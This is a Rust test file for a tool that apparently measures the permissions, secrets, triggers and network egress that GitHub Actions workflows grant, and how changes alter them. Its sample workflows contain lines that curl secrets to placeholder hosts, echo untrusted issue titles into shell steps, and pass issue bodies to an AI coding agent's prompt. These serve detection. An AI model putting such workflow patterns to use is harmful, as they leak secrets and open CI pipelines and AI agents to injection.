//! Before and after: what a change grants, and that nothing else counts as one.

use beholden::domain::Foreign;
use beholden::power::{self, Granted, Powers, Tree, Way, subtract};
use proptest::prelude::*;

use crate::power::shown::{many, named, one, public, steps};

const PATH: &str = ".github/workflows/ci.yml";

/// A workflow with something of everything.
const RICH: &str = r#"name: Release
on:
  push:
    branches: [main]
  issues:
permissions:
  contents: write
  id-token: write
jobs:
  build:
    runs-on: [self-hosted, linux]
    environment: prod
    steps:
      - uses: actions/checkout@v4
      - uses: octo-org/act@v1
        with:
          key: ${{ secrets.KEY }}
      - run: |
          echo "${{ github.event.issue.title }}"
          curl -d "$TOKEN" https://up.acme.invalid/
        env:
          TOKEN: ${{ secrets.TOKEN }}
  other:
    runs-on: ubuntu-latest
    permissions: {issues: read}
    steps:
      - run: "true"
"#;

fn shifts(base: &str, head: &str) -> Vec<(String, Way)> {
    let difference = subtract(&one(base), &one(head));
    let all = difference.widened.iter().chain(&difference.narrowed);
    all.flat_map(|it| it.shifts.clone())
        .map(|shift| (serde_json::to_string(&shift.axis).unwrap(), shift.way))
        .collect()
}

#[test]
fn what_means_the_same_is_no_change() {
    let base = one(RICH);
    assert!(subtract(&base, &base).is_empty());
    for (what, head) in [
        ("comments", RICH.replace("jobs:", "# why\njobs:  # what")),
        ("quotes", RICH.replace("environment: prod", "environment: \"prod\"")),
        ("blank lines", RICH.replace('\n', "\n\n")),
        (
            "a flow list",
            RICH.replace("[self-hosted, linux]", "\n      - linux\n      - self-hosted"),
        ),
        (
            "a flow map",
            RICH.replace(
                "permissions:\n  contents: write\n  id-token: write",
                "permissions: {id-token: write, contents: write}",
            ),
        ),
        ("order of triggers", RICH.replace("  issues:\n", "").replace("on:\n", "on:\n  issues:\n")),
        ("spaces in expressions", RICH.replace("${{ secrets.KEY }}", "${{secrets.KEY}}")),
        ("letter case of a secret", RICH.replace("secrets.KEY", "secrets.key")),
        ("index notation", RICH.replace("secrets.KEY", "secrets['KEY']")),
        ("a workflow's name", RICH.replace("name: Release", "name: Publish")),
        ("anchors", RICH.replace("permissions: {issues: read}", "permissions: &p {issues: read}")),
        (
            "an alias",
            RICH.replace("      - run: \"true\"", "      - &s {run: \"true\"}\n      - *s"),
        ),
        (
            "long form of an environment",
            RICH.replace("environment: prod", "environment: {name: prod}"),
        ),
        ("Windows line ends", RICH.replace('\n', "\r\n")),
    ] {
        assert_ne!(head, RICH, "{what}");
        let difference = subtract(&base, &one(&head));
        assert!(difference.is_empty(), "{what}: {difference:#?}");
    }
}

#[test]
fn order_of_jobs_plays_no_part() {
    let (start, other) = RICH.split_once("  other:\n").unwrap();
    let (top, build) = start.split_once("jobs:\n").unwrap();
    let head = format!("{top}jobs:\n  other:\n{other}{build}");
    assert!(subtract(&one(RICH), &one(&head)).is_empty());
}

#[test]
fn each_component_that_rises_is_named() {
    for (what, from, to, axis) in [
        ("token", "contents: write", "contents: write\n  issues: write", r#"{"token":"issues"}"#),
        (
            "secret",
            "secrets.KEY",
            "secrets.KEY }}${{ secrets.NEW",
            r#"{"secret":{"secret":"named","name":"NEW"}}"#,
        ),
        ("trigger", "  issues:", "  issues:\n  issue_comment:", r#"{"trigger":"issue_comment"}"#),
        (
            "pin",
            "octo-org/act@v1",
            "octo-org/act@main",
            r#"{"code":{"kind":"action","name":"octo-org/act"}}"#,
        ),
        (
            "host",
            "https://up.acme.invalid/",
            "https://up.acme.invalid/ https://else.invalid/",
            r#"{"egress":{"secret":{"secret":"named","name":"TOKEN"},"door":{"door":"network","host":"else.invalid"}}}"#,
        ),
    ] {
        let head = RICH.replace(from, to);
        let up = shifts(RICH, &head);
        assert!(up.contains(&(axis.to_owned(), Way::Rose)), "{what}: {up:?}");
        assert!(up.iter().all(|(_, way)| *way == Way::Rose), "{what}: {up:?}");
        let down = subtract(&one(&head), &one(RICH));
        assert!(down.widened.is_empty() && !down.grants(), "{what}: {:?}", down.widened);
    }
}

#[test]
fn a_change_that_raises_one_and_lowers_another_says_both() {
    let head = RICH.replace("secrets.KEY", "secrets.OTHER");
    let both = shifts(RICH, &head);
    assert!(both.iter().any(|(axis, way)| axis.contains("OTHER") && *way == Way::Rose));
    assert!(both.iter().any(|(axis, way)| axis.contains("KEY") && *way == Way::Fell));
}

#[test]
fn a_newer_reference_of_the_same_code_is_no_power() {
    let head = RICH.replace("octo-org/act@v1", "octo-org/act@v2");
    let difference = subtract(&one(RICH), &one(&head));
    assert!(!difference.grants() && difference.narrowed.is_empty());
    let referred = &difference.referred[0];
    assert_eq!((referred.from.raw(), referred.to.raw(), referred.spot.line), ("v1", "v2", 15));
    let owner = RICH.replace("octo-org/act@v1", "evil-org/act@v1");
    assert!(subtract(&one(RICH), &one(&owner)).grants(), "another owner is other code");
}

#[test]
fn renames_inside_the_folder_move_and_others_activate() {
    let at = |path: &str| many(&[(path, RICH)]);
    let moved = subtract(&at(PATH), &at(".github/workflows/release.yml"));
    assert!(!moved.grants() && moved.removed.is_empty());
    assert!(!moved.moved.is_empty());
    assert_eq!(moved.moved[0].from.path.raw(), PATH);

    let activated = subtract(&at("examples/ci.yml"), &at(PATH));
    assert_eq!(activated.added.len(), at(PATH).grants().len(), "activation is never empty");
    let parked = subtract(&at(PATH), &at(".github/workflows/old/ci.yml"));
    assert_eq!(parked.removed.len(), at(PATH).grants().len());

    let wider = RICH.replace("secrets.KEY", "secrets.OTHER");
    let both = subtract(&at(PATH), &many(&[(".github/workflows/release.yml", &wider)]));
    assert!(both.grants(), "a rename hides nothing");
}

#[test]
fn a_job_with_another_id_and_the_same_power_has_moved() {
    let renamed = RICH.replace("  build:", "  make:");
    let difference = subtract(&one(RICH), &one(&renamed));
    assert!(!difference.grants() && difference.removed.is_empty());
    let names: Vec<_> =
        difference.moved.iter().map(|it| (it.from.name.raw(), it.to.subject.name.raw())).collect();
    assert!(names.contains(&("build", "make")), "{names:?}");
    let wider = renamed.replace("secrets.KEY", "secrets.OTHER");
    assert!(subtract(&one(RICH), &one(&wider)).grants());
    let copied = format!(
        "{RICH}  copy:\n    runs-on: ubuntu-latest\n    permissions: {{issues: read}}\n    steps: [{{run: 'true'}}]\n"
    );
    assert_eq!(subtract(&one(RICH), &one(&copied)).added.len(), 1, "one more is one more");
}

#[test]
fn a_job_with_another_id_and_less_power_grants_nothing() {
    let text = "on: push\npermissions: {}\njobs:\n  publish-all:\n    runs-on: ubuntu-latest\n    environment: store\n    permissions: {id-token: write}\n    steps:\n      - run: publish\n        env: {KEY: '${{ secrets.STORE_KEY }}'}\n";
    let less = text.replace("publish-all", "publish");
    let less = less.replace("        env: {KEY: '${{ secrets.STORE_KEY }}'}\n", "");
    let difference = subtract(&one(text), &one(&less));
    assert!(!difference.grants(), "{:?}", difference.added);
    assert_eq!(difference.moved[0].to.subject.name.raw(), "publish");
    let open = less.replace("    environment: store\n", "");
    assert_eq!(subtract(&one(text), &one(&open)).added.len(), 1, "a guard may be gone");
    let other = less.replace("id-token: write", "packages: write");
    assert_eq!(subtract(&one(text), &one(&other)).added.len(), 1, "something else is new");
    let both =
        format!("{text}  publish:\n    runs-on: ubuntu-latest\n    steps: [{{run: 'true'}}]\n");
    assert_eq!(subtract(&one(text), &one(&both)).added.len(), 1, "beside the old one it is new");
}

#[test]
fn a_job_that_goes_to_another_file_is_no_rename() {
    let two = "on: push\njobs:\n  a: {runs-on: ubuntu-latest, steps: [{run: a}]}\n  b: {runs-on: self-hosted, steps: [{run: b}]}\n";
    let (first, second) = (
        "on: push\njobs:\n  a: {runs-on: ubuntu-latest, steps: [{run: a}]}\n",
        "on: push\njobs:\n  b: {runs-on: self-hosted, steps: [{run: b}]}\n",
    );
    let head = many(&[(PATH, first), (".github/workflows/b.yml", second)]);
    let difference = subtract(&one(two), &head);
    assert!(difference.moved.is_empty(), "{:?}", difference.moved);
    assert!(difference.added.len() == 1 && difference.removed.len() == 1);
}

#[test]
fn the_digest_is_of_what_is_granted_and_not_of_where_it_stands() {
    let base = one(&steps("push", "- run: 'true'"));
    let digest = |text: &str| subtract(&base, &one(text)).digest();
    let same = RICH.replace("jobs:", "\n\n# moved down\njobs:").replace("act@v1", "act@v2");
    assert_eq!(digest(RICH), digest(&same));
    assert_ne!(digest(RICH), digest(&RICH.replace("issues: read", "issues: write")));
    assert_ne!(
        digest(RICH),
        subtract(&Powers::default(), &one(RICH)).digest(),
        "what was there before counts"
    );
}

#[test]
fn what_becomes_unknown_is_said_once() {
    let head = format!("{RICH}      - uses: ./gone\n");
    let difference = subtract(&one(RICH), &one(&head));
    assert_eq!(difference.unknowns.len(), 1, "{:?}", difference.unknowns);
    assert!(subtract(&one(&head), &one(&head.replace("jobs:", "\njobs:"))).unknowns.is_empty());
    let broken = subtract(&one(RICH), &one("jobs: ["));
    assert!(!broken.removed.is_empty() && broken.unknowns.len() == 1);
}

#[test]
fn each_component_has_its_line() {
    let powers = one(RICH);
    let build = named(&powers, "build");
    for (short, line) in [
        ("on push: Collaborators", 3),
        ("on issues: Anyone", 5),
        ("token contents: Write", 7),
        ("secret KEY", 17),
        ("secret TOKEN", 22),
        ("environment prod", 12),
        ("code octo-org/act Tag", 15),
        ("text github.event.issue.title executed", 19),
        ("TOKEN to up.acme.invalid", 20),
    ] {
        assert_eq!(crate::power::shown::line_of(build, short), line, "{short}");
    }
    assert_eq!(build.spot.line, 10);
}

/// Pieces from which workflows of any mixture are made.
fn workflow() -> impl Strategy<Value = String> {
    let on = prop::sample::subsequence(
        vec![
            "push",
            "issues",
            "pull_request",
            "pull_request_target",
            "schedule: [{cron: '0 0 * * *'}]",
        ],
        1..4,
    );
    let step = prop::sample::select(vec![
        "- run: 'true'",
        "- run: echo ${{ secrets.A }}",
        "- run: curl -d ${{ secrets.B }} https://x.invalid",
        "- uses: octo-org/act@v1",
        "- uses: ./.github/actions/up",
        "- uses: actions/checkout@v4\n  with: {ref: '${{ github.head_ref }}'}",
        "- run: npm ci",
        "- uses: anthropics/claude-code-action@v1\n  with: {prompt: '${{ github.event.issue.body }}'}",
    ]);
    let job = (prop::collection::vec(step, 1..5), prop::bool::ANY, prop::bool::ANY);
    (on, prop::collection::vec(job, 1..4), prop::bool::ANY).prop_map(|(on, jobs, read)| {
        let mut text = String::from("on:\n");
        for event in on {
            let colon = if event.contains(':') { "" } else { ":" };
            text.push_str(&format!("  {event}{colon}\n"));
        }
        if read {
            text.push_str("permissions: {contents: read}\n");
        }
        text.push_str("jobs:\n");
        for (index, (steps, environment, own)) in jobs.into_iter().enumerate() {
            let runner = if own { "self-hosted" } else { "ubuntu-latest" };
            text.push_str(&format!("  job{index}:\n    runs-on: {runner}\n"));
            if environment {
                text.push_str("    environment: prod\n");
            }
            text.push_str("    steps:\n");
            for step in steps {
                text.push_str(
                    &step.lines().map(|line| format!("      {line}\n")).collect::<String>(),
                );
            }
        }
        text
    })
}

/// More steps for the last job of such a workflow, or one more job.
fn added() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "      - run: curl -d ${{ secrets.C }} https://y.invalid\n",
        "      - uses: octo-org/other@v1\n        with: {key: '${{ secrets.A }}'}\n",
        "      - uses: actions/checkout@v4\n        with: {ref: '${{ github.head_ref }}'}\n",
        "      - run: claude -p '${{ github.event.issue.body }}'\n",
        "  more:\n    runs-on: self-hosted\n    permissions: write-all\n    steps: [{run: make}]\n",
    ])
}

fn tree() -> impl Strategy<Value = Vec<(String, String)>> {
    prop::collection::btree_map("[abc]", workflow(), 0..4).prop_map(|files| {
        files
            .into_iter()
            .map(|(name, text)| (format!(".github/workflows/{name}.yml"), text))
            .collect()
    })
}

fn read(files: &[(String, String)]) -> Powers {
    let tree: Tree = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    power::of(&tree, &public())
}

/// What the head grants, put together again from the base and the difference.
fn rebuilt(base: &Powers, difference: &power::Difference) -> Vec<(power::Subject, power::Power)> {
    let gone = |granted: &&Granted| {
        let path: &Foreign = &granted.subject.path;
        let moved = difference.moved.iter().any(|it| it.from == granted.subject);
        let removed = difference.removed.iter().any(|it| it.subject == granted.subject);
        let changed = difference.widened.iter().chain(&difference.narrowed);
        moved
            || removed
            || changed
                .clone()
                .any(|it| it.after.subject == granted.subject && it.after.subject.path == *path)
    };
    let kept = base.grants().iter().filter(|granted| !gone(granted));
    let new = difference
        .added
        .iter()
        .chain(difference.moved.iter().map(|it| &it.to))
        .chain(difference.widened.iter().chain(&difference.narrowed).map(|it| &it.after));
    let mut all: Vec<_> =
        kept.chain(new).map(|it| (it.subject.clone(), it.power.clone())).collect();
    all.sort_by(|a, b| a.0.cmp(&b.0));
    all
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn nothing_less_itself_is_nothing(files in tree()) {
        prop_assert!(subtract(&read(&files), &read(&files)).is_empty());
    }

    #[test]
    fn another_form_of_the_same_files_is_no_change(files in tree()) {
        let in_json = |text: &str| {
            let value: yaml_serde::Value = yaml_serde::from_str(text).unwrap();
            format!("# again\n\n{}\n", serde_json::to_string_pretty(&value).unwrap())
        };
        let again: Vec<_> =
            files.iter().map(|(path, text)| (path.clone(), in_json(text))).collect();
        prop_assert!(subtract(&read(&files), &read(&again)).is_empty());
    }

    #[test]
    fn a_file_that_becomes_active_is_never_nothing(text in workflow()) {
        let at = |path: &str| read(&[(path.to_owned(), text.clone())]);
        for inactive in ["examples/ci.yml", ".github/workflows/off/ci.yml", ".github/ci.yml"] {
            let difference = subtract(&at(inactive), &at(PATH));
            prop_assert_eq!(difference.added.len(), at(PATH).grants().len());
            prop_assert!(!difference.added.is_empty(), "{}", inactive);
            let back = subtract(&at(PATH), &at(inactive));
            prop_assert!(back.added.is_empty() && !back.removed.is_empty(), "{}", inactive);
        }
    }

    #[test]
    fn what_is_added_to_a_file_narrows_nothing(text in workflow(), adds in added()) {
        let difference = subtract(&one(&text), &one(&format!("{text}{adds}")));
        prop_assert!(difference.narrowed.is_empty() && difference.removed.is_empty());
    }

    #[test]
    fn the_head_is_the_base_less_what_went_and_with_what_came((base, head) in (tree(), tree())) {
        let (base, head) = (read(&base), read(&head));
        let difference = subtract(&base, &head);
        let whole: Vec<_> =
            head.grants().iter().map(|it| (it.subject.clone(), it.power.clone())).collect();
        prop_assert_eq!(rebuilt(&base, &difference), whole);
    }

    #[test]
    fn the_order_of_files_plays_no_part(mut files in tree()) {
        let powers = read(&files);
        files.reverse();
        prop_assert_eq!(powers, read(&files));
    }

    #[test]
    fn any_text_is_read_or_unknown(text in "[\\PC\\n]{0,200}") {
        let powers = one(&text);
        prop_assert!(!powers.grants().is_empty() || !powers.unknowns().is_empty());
    }

    #[test]
    fn a_workflow_with_a_piece_cut_out_never_panics(text in workflow(), from in 0_usize..400, length in 0_usize..40) {
        let from = from.min(text.len());
        let to = (from + length).min(text.len());
        if text.is_char_boundary(from) && text.is_char_boundary(to) {
            let cut = format!("{}{}", &text[..from], &text[to..]);
            let powers = one(&cut);
            prop_assert!(subtract(&powers, &powers).is_empty());
        }
    }
}
